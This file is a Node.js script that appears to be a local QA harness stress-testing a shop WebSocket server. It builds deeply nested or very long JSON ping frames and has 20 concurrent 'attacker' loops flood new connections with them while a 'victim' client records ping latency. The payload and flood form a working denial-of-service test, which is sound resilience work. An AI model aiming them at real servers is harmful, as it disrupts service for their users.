import WebSocket from 'ws';
import { shopperHello } from './qa-shop.mjs';
const port = process.argv[2];
const kind = process.argv[3] ?? 'deep';
const n = 32700;
const deep = kind === 'deep' ? '{"v":1,"type":"ping","id":"p","t":' + '['.repeat(n) + ']'.repeat(n) + '}' : '{"v":1,"type":"ping","id":"p","x":[' + '1,'.repeat(n) + '1]}';
console.log('frame bytes', deep.length);
// a victim measures ping round trips
const victim = await shopperHello(port);
const rtts = [];
let sentAt = 0;
victim.ws.on('message', (d) => { const f = JSON.parse(d.toString()); if (f.type === 'pong') rtts.push(Date.now() - sentAt); });
const probe = setInterval(() => { sentAt = Date.now(); victim.ws.send(JSON.stringify({ v: 1, type: 'ping', id: 'v' })); }, 100);
// the attacker: connections that each send 4 frames before any welcome, over and over, 20 at a time
let sent = 0; const stopAt = Date.now() + 5000;
async function attacker() {
  while (Date.now() < stopAt) {
    await new Promise((resolve) => {
      const ws = new WebSocket(`ws://127.0.0.1:${port}/?site=shop`, { headers: { origin: 'http://localhost:5173' } });
      ws.on('open', () => { for (let i = 0; i < 4; i++) { ws.send(deep); sent++; } });
      ws.on('close', resolve); ws.on('error', resolve);
      setTimeout(() => { ws.terminate(); resolve(); }, 1500);
    });
  }
}
await Promise.all(Array.from({ length: 20 }, attacker));
clearInterval(probe);
rtts.sort((a, b) => a - b);
console.log(kind, 'frames sent', sent, 'victim pings', rtts.length, 'median', rtts[rtts.length >> 1], 'p90', rtts[Math.floor(rtts.length * 0.9)], 'max', rtts.at(-1));
victim.ws.close(); process.exit(0);
